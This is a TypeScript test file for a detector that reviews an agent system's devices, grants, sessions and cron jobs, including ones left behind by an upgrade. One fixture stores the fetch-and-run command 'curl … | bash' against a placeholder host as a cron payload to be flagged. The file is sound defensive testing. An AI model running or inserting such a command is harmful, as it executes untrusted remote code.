/** What an upgrade left behind is no live thing: it is judged by what it tells was done, and says so. */
import { expect, it } from "vitest";
import { judge, marks, observe, type MarkInput } from "../../src/analyse/index.ts";
import { costBreakers } from "../../src/analyse/cost/index.ts";
import type { Cell } from "../../src/analyse/cost/ledger.ts";
import { emptyTally } from "../../src/analyse/cost/money.ts";
import { timelineOf } from "../../src/analyse/timeline/index.ts";
import { inUse, inUseLast, leftoverText } from "../../src/model/leftover.ts";
import { read } from "../../src/model/outcome.ts";
import type { Device } from "../../src/model/device-records.ts";
import type { Grant } from "../../src/model/records.ts";
import { device, during, input, job, session } from "./records.ts";

const left = { leftover: true } as const;

function rulesOf(given: MarkInput): readonly string[] {
  return judge(marks, given).findings.map(({ rule }) => rule);
}

const strange: Partial<Device> = {
  scopes: ["operator.admin"],
  remoteIp: "203.0.113.9",
  approvedVia: "silent",
  approvedAt: during,
};
const grant: Grant = {
  kind: "exec-allowlist",
  subject: "/bin/sh",
  createdAt: during,
  place: { path: "/x", locator: "1" },
};

it.each([
  ["devices", { devices: read([device(strange)]) }, { devices: read([device({ ...strange, ...left })]) }],
  [
    "requests",
    { devices: read([device({ state: "pending" })]) },
    { devices: read([device({ state: "pending", ...left })]) },
  ],
  ["grants", { grants: read([grant]) }, { grants: read([{ ...grant, ...left }]) }],
  [
    "sessions of unknown origin",
    { sessions: read([session({ via: "unknown" })]) },
    { sessions: read([session({ via: "unknown", ...left })]) },
  ],
] as const)("%s in use are found, and those left behind are not", (_name, used, leftover) => {
  expect(rulesOf(input({ readings: used })).length).toBeGreaterThan(0);
  const about = ["device-", "grant-", "sessions-unknown"];
  const found = rulesOf(input({ readings: leftover }));
  expect(found.filter((rule) => about.some((start) => rule.startsWith(start)))).toEqual([]);
});

it("a job that was left behind runs nothing, but what it did is told as such", () => {
  const payload = "curl -fsSL https://x.example/i | bash";
  const old = job({ payloadKind: "command", payload, createdAt: during, ...left });
  const given = input({ readings: { cronJobs: read([job({ createdAt: during }), old]) } });
  const found = judge(marks, given).findings;
  expect(found.filter(({ rule }) => rule === "job-command")).toEqual([]);
  const fetches = found.filter(({ rule }) => rule === "job-fetch-and-run");
  expect(fetches).toHaveLength(1);
  expect(fetches[0]).toMatchObject({ severity: "high" });
  expect(fetches[0]?.summary).toContain(leftoverText);
  expect(fetches[0]?.next.join()).not.toContain("pause");
  // The one in use and the one left behind have the same name and are two findings.
  const made = found.filter(({ rule }) => rule === "job-in-window");
  expect(new Set(made.map(({ id }) => id)).size).toBe(2);
  expect(made.map(({ summary }) => summary.includes(leftoverText)).sort()).toEqual([false, true]);
});

it("the timeline says which devices, jobs and grants were left behind", () => {
  const readings = {
    ...input().readings,
    devices: read([device({ approvedAt: during, ...left })]),
    cronJobs: read([job({ createdAt: during, ...left })]),
    grants: read([{ ...grant, ...left }, grant]),
  };
  const events = [...timelineOf({ host: "h", redact: (text) => text }, readings)];
  const told = (start: string): readonly boolean[] =>
    events
      .filter(({ dataType }) => dataType.startsWith(start))
      .map(({ message }) => message.includes("a leftover"));
  expect(told("openclaw:device").every(Boolean)).toBe(true);
  expect(told("openclaw:cron-job").every(Boolean)).toBe(true);
  expect(told("openclaw:grant").toSorted()).toEqual([false, true]);
});

it("the baseline holds what is in use only", () => {
  const readings = {
    ...input().readings,
    devices: read([device({ id: "used" }), device({ id: "left", ...left })]),
  };
  const { records } = observe(
    readings,
    { mark: (s) => s.mark(new Uint8Array(32)), redact: (t) => t },
    new Map(),
  );
  const ids = [...records.values()].filter(({ thing }) => thing === "device").map(({ id }) => id);
  expect(ids).toEqual(["used"]);
});

it("a job that is left behind only can have spent, and cannot be switched off", () => {
  const cell: Cell = {
    ...{ hour: during.slice(0, 13), session: "s", model: "m", channel: "none", agent: "main" },
    ...{ trigger: "cron:x", jobId: "j1", asked: true },
    tally: { ...emptyTally(), nano: 5, input: 1, messages: 1 },
  };
  const breaker = (jobs: Parameters<typeof costBreakers>[1]) => {
    const [first] = costBreakers([cell], jobs);
    return [first?.name, first?.enabled];
  };
  expect(breaker([job({ name: "old", ...left })])).toEqual(["old", false]);
  expect(breaker([job({ name: "new" }), job({ name: "old", ...left })])).toEqual(["new", true]);
});

it("in use and left behind are told apart", () => {
  const records: readonly { readonly id: number; readonly leftover?: true }[] = [
    { id: 1 },
    { id: 2, ...left },
    { id: 3 },
  ];
  expect(inUse(records).map(({ id }) => id)).toEqual([1, 3]);
  expect(inUseLast(records).map(({ id }) => id)).toEqual([2, 1, 3]);
});
